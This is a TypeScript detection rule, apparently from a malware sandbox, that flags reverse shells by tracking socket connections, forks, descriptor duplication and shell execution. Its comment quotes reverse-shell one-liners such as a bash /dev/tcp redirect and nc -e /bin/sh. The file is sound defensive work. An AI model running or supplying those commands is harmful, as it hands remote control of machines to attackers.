import type { BehaviorEvent } from '../../report/events.js';
import { isRemoteInet } from '../helpers/addresses.js';
import { isBareShell, isShell } from '../helpers/command-line.js';
import { Signature, type EventOf, type SignatureContext, type SignatureInfo } from '../signature.js';

type Kind = 'net.connect' | 'process.fork' | 'process.exec' | 'file.dup';

// connect(2) on a non-blocking socket answers EINPROGRESS and still connects.
const EINPROGRESS = -115;
const STDIN = 0;
const STDOUT = 1;
const STDERR = 2;

/**
 * A shell driven over the network: a process connects to another machine and then becomes (or starts) a
 * shell with no script to run, which therefore reads its commands from the inherited socket. This is what
 * `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, and the Python/Perl dup2-then-exec one-liners do,
 * whatever their wording. Where the trace shows descriptor copies, a connection to another machine copied
 * onto both stdin and stdout before a shell is executed (with or without a command: `sh -c id` runs what
 * the peer sees answered) is the same thing, shown directly. Otherwise an inherited connection stands for
 * "its fds are a socket".
 */
export class ReverseShell extends Signature<Kind> {
  readonly info: SignatureInfo = {
    name: 'reverse_shell',
    description: 'Starts a shell whose input and output are a network connection (reverse shell)',
    severity: 5,
    categories: ['backdoor'],
    ttp: ['T1059.004'],
  };
  override readonly kinds: readonly Kind[] = ['net.connect', 'process.fork', 'process.exec', 'file.dup'];

  /** The remote connection each process holds (its own or inherited). */
  readonly #connections = new Map<number, BehaviorEvent>();
  /** Per process, the copies that made its stdin or stdout a remote connection (inherited on fork). */
  readonly #socketStdio = new Map<number, Map<number, BehaviorEvent>>();

  override onEvent(event: EventOf<Kind>, ctx: SignatureContext): void {
    switch (event.kind) {
      case 'net.connect': {
        if (!isRemoteInet(event.family, event.address) || (event.ret < 0 && event.ret !== EINPROGRESS)) break;
        this.#connections.set(event.pid, event);
        const process = ctx.processes.get(event.pid);
        if (process && isBareShell(process.path, process.argv)) this.markEvent(event, ctx);
        break;
      }
      case 'process.fork': {
        const inherited = this.#connections.get(event.pid);
        if (inherited) this.#connections.set(event.child, inherited);
        const stdio = this.#socketStdio.get(event.pid);
        if (stdio) this.#socketStdio.set(event.child, new Map(stdio));
        break;
      }
      case 'file.dup':
        this.#dup(event);
        break;
      case 'process.exec': {
        if (event.ret < 0) break;
        const connection = this.#connections.get(event.pid);
        if (connection && isBareShell(event.path, event.argv)) {
          this.markEvent(connection, ctx);
          this.markEvent(event, ctx);
        }
        const stdio = this.#socketStdio.get(event.pid);
        if (stdio?.has(STDIN) && stdio.has(STDOUT) && isShell(event.path)) {
          for (const copy of stdio.values()) this.markEvent(copy, ctx);
          this.markEvent(event, ctx);
        }
        break;
      }
    }
  }

  #dup(event: EventOf<'file.dup'>): void {
    if (event.newfd > STDERR) return;
    let stdio = this.#socketStdio.get(event.pid);
    const remote = event.object === 'socket' && isRemoteInet(event.family ?? '', event.address ?? '');
    if (remote) {
      if (!stdio) this.#socketStdio.set(event.pid, (stdio = new Map()));
      stdio.set(event.newfd, event);
    } else {
      stdio?.delete(event.newfd);
    }
  }
}
